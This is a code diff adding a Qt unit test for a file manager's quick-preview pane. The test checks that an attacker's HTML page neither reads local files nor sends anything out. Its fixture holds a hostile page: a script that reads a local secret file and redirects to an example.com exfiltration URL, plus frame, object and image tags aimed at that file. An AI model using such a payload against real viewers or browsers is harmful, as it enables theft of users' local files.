@@ -11,6 +11,7 @@
 #include <QImage>
 #include <QLabel>
 #include <QLineEdit>
+#include <QMouseEvent>
 #include <QMainWindow>
 #include <QPlainTextEdit>
 #include <QPointer>
@@ -25,6 +26,7 @@
 #include "platform/file_panels.h"
 #include "platform/quick_preview.h"
 #include "platform/window_tabs.h"
+#include "platform/workspace.h"
 #include "support/qt_print.h"
 #include "support/qt_wait.h"
 
@@ -186,6 +188,52 @@ TEST_F(QuickPreviewTest, FilesThatMustNotBeReadOrCannotBeShownAreDescribed) {
     preview.setPreviewItem(at("page.html"));
     EXPECT_EQ(preview.kind(), QuickPreview::Kind::Html);
     EXPECT_TRUE(preview.htmlView()->toPlainText().startsWith(QStringLiteral("x")));
+}
+
+// The attacker's page in the project window's quick look: its script does
+// not run, its frame shows no file, and neither its refresh nor a click on
+// its link sends anything to the user's applications.
+TEST_F(QuickPreviewTest, AnAttackersPageReadsNothingAndSendsNothingOut) {
+    QList<QUrl> opened;
+    platform::Workspace::setOpenerForTesting([&](const QUrl &url) {
+        opened << url;
+        return true;
+    });
+    write(at("secret.txt"), "TOPSECRET-42\n");
+    const QString secret = QUrl::fromLocalFile(at("secret.txt")).toString(QUrl::FullyEncoded);
+    write(at("page.html"), QStringLiteral(
+        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://example.com/refresh\">"
+        "<link rel=\"stylesheet\" href=\"%1\"></head><body><p id=\"got\">nothing yet</p>"
+        "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
+        "document.getElementById('got').textContent = x.responseText;"
+        "top.location = 'https://example.com/exfil?d=' + encodeURIComponent(x.responseText);</script>"
+        "<iframe src=\"%1\"></iframe><object data=\"%1\"></object><img src=\"%1\">"
+        "<p><a href=\"https://example.com/clicked\">the site</a></p></body></html>").arg(secret).toUtf8());
+    preview.setPreviewItem(at("page.html"));
+    ASSERT_EQ(preview.kind(), QuickPreview::Kind::Html);
+    QTextBrowser *view = preview.htmlView();
+    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("nothing yet")));
+    EXPECT_FALSE(view->toPlainText().contains(QStringLiteral("TOPSECRET")));
+
+    // A click of the user's on the link: it lands on the link, and goes
+    // nowhere.
+    QUrl clicked;
+    QObject::connect(view, &QTextBrowser::anchorClicked, [&](const QUrl &url) { clicked = url; });
+    QTextCursor link = view->document()->find(QStringLiteral("the site"));
+    ASSERT_FALSE(link.isNull());
+    link.setPosition(link.selectionStart() + 2);
+    const QPoint point = view->cursorRect(link).center();
+    for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
+        QMouseEvent event(type, point, view->viewport()->mapToGlobal(point), Qt::LeftButton,
+                          type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton, Qt::NoModifier);
+        QApplication::sendEvent(view->viewport(), &event);
+    }
+    testing_qt::spinFor(std::chrono::milliseconds(200));
+    platform::Workspace::setOpenerForTesting({});
+    EXPECT_EQ(clicked, QUrl("https://example.com/clicked"));
+    EXPECT_TRUE(opened.isEmpty());
+    EXPECT_EQ(preview.previewItem(), at("page.html"));
+    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("the site")));
 }
 
 TEST(OpenPanel, AFolderCanBeTheAnswerWhenFoldersMayBeChosen) {
